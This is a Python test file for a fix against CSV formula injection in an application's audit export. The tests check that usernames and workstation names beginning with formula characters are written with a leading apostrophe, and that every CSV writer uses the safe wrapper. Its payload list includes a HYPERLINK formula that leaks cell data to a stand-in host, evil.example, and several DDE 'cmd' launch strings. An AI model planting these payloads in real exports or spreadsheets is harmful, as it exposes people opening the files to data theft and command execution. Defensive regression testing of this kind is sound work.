"""Issue 19, point 4: no formula cell in any CSV the product writes.

A sign-in attempt with the username ``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0`` or ``@SUM(...)``,
or from a workstation so named, went into the audit export unchanged; a spreadsheet opening it
would run the formula. Now every text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (and the full-width forms) is written with a leading apostrophe, and every CSV
writer of the product goes through ``csv_safe.writer`` (checked over the source).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from agent_app.services import audit, auth, csv_safe
from agent_app.services.errors import ServiceError
from agent_app.store import Store
from tests.support import ROOT
from tests.support.robustness import PASSWORD, open_desk

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
]


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


def test_formulas_in_usernames_and_workstations_are_exported_as_text(
    store: Store, tmp_path: Path
) -> None:
    desk = open_desk(store)
    for formula in FORMULAS:
        with pytest.raises(ServiceError):
            auth.sign_in(store, formula, "wrong", "PC-1")
        with pytest.raises(ServiceError):
            auth.sign_in(store, "agent-si", "wrong password", formula)
    auth.sign_in(store, "sup-si", PASSWORD, FORMULAS[0])  # a real sign-in, same workstation
    target = tmp_path / "audit.csv"
    written = audit.export_csv(store, desk.admin, audit.AuditFilter(), target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == written + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if _dangerous(cell)]
    workstations = {row[4] for row in rows[1:]}
    for formula in FORMULAS:
        # kept (as the one-line name sign-in records), readable, inert
        assert csv_safe.safe_cell(auth.workstation_name(formula)) in workstations


@pytest.mark.parametrize("value", [*FORMULAS, "-5", "=", "+", "@"])
def test_a_cell_that_could_start_a_formula_is_quoted(value: str) -> None:
    assert csv_safe.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Novak", "", " =x", "'=x", "a=b", "1+1", 42, -5, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert csv_safe.safe_cell(value) == value


def test_every_csv_writer_of_the_product_is_the_safe_one() -> None:
    package = ROOT / "agent_app"
    writers = []
    for path in package.rglob("*.py"):
        if path.name == "csv_safe.py":
            continue
        text = path.read_text("utf-8")
        if re.search(r"csv\.(writer|DictWriter)\s*\(", text):
            writers.append(str(path.relative_to(package)))
    assert writers == []
